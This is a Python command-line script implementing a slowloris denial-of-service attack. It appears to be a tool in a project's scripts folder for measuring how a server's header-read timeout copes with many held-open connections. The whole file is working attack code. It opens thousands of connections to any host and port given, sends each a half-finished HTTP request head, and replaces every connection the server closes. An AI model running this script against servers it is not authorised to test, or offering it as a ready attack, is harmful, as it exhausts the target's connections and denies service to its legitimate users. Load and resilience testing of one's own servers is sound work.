#!/usr/bin/env python3
"""Holds N slow-header connections open against an HTTP server for a while (slowloris).

    python3 scripts/slowloris.py HOST PORT N SECONDS

Each connection sends half a request head (a request line and one header, no blank line)
and then nothing. When the server closes one (its header-read timeout), a new one is
opened at once, so about N stay open. Prints one line: how many were wanted, how many were
open (the least, the mean and the most over the samples taken each second after the first
ten seconds), and how many the server cut off. Standard library only (selectors); raise the
open-file limit first (`ulimit -n`).
"""
import selectors, socket, sys, time

HALF_HEAD = b"GET /profile HTTP/1.1\r\nHost: bench\r\nX-Slow: 1\r\n"


def main():
    host, port, wanted, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    sel = selectors.DefaultSelector()
    live = 0
    cut = 0
    failed = 0
    samples = []
    start = time.monotonic()
    next_sample = start + 10
    end = start + seconds

    def open_one():
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex((host, port))
        sel.register(s, selectors.EVENT_WRITE, "connecting")

    def close(s):
        sel.unregister(s)
        s.close()

    while time.monotonic() < end:
        # Top up, at most 1,000 new connections per pass so the loop keeps reading.
        missing = wanted - live - sum(1 for k in sel.get_map().values() if k.data == "connecting")
        for _ in range(max(0, min(missing, 1000))):
            try:
                open_one()
            except OSError:
                failed += 1
                break
        for key, mask in sel.select(timeout=0.2):
            s = key.fileobj
            if key.data == "connecting":
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    failed += 1
                    close(s)
                    continue
                try:
                    s.send(HALF_HEAD)
                except OSError:
                    failed += 1
                    close(s)
                    continue
                sel.modify(s, selectors.EVENT_READ, "open")
                live += 1
            else:
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if not data:
                    cut += 1
                    live -= 1
                    close(s)
        now = time.monotonic()
        if now >= next_sample:
            samples.append(live)
            next_sample = now + 1
    for key in list(sel.get_map().values()):
        key.fileobj.close()
    if samples:
        mean = sum(samples) / len(samples)
        held = f"{min(samples)}-{max(samples)} open (mean {mean:.0f})"
    else:
        held = f"{live} open"
    print(f"{wanted} slow-header connections wanted, {held}; {cut} cut off by the server and replaced; {failed} connects failed")


main()
